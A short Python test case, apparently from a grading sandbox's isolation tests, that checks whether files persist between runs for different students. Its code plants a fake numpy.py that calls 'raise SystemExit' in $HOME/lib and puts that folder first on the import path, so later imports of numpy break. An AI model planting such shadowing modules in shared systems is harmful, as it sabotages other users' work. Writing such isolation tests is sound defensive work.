# threat: leaving something for the next student
# again: yes
# expect: score=0
# %% own
import os
import sys

place = os.path.join(os.environ["HOME"], "lib")
if os.path.exists(place):
    print("REACHED")
os.makedirs(place, exist_ok=True)
with open(f"{place}/numpy.py", "w") as file:
    file.write("raise SystemExit")
sys.path.insert(0, place)
